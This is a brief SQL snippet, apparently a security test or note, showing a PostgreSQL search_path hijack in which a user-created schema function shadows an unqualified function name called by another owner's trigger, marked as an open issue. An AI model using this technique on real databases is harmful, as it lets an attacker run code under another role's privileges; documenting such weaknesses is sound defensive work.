-- Attack: a function of one's own that stands before the one that the owner's trigger names without its schema.
-- open: names without a schema in triggers
CREATE SCHEMA mine;
CREATE FUNCTION mine.noted(text) RETURNS text LANGUAGE sql AS 'SELECT CASE WHEN heard($1) THEN $1 END';
SET LOCAL search_path = mine, public;
UPDATE noted SET n = 1;
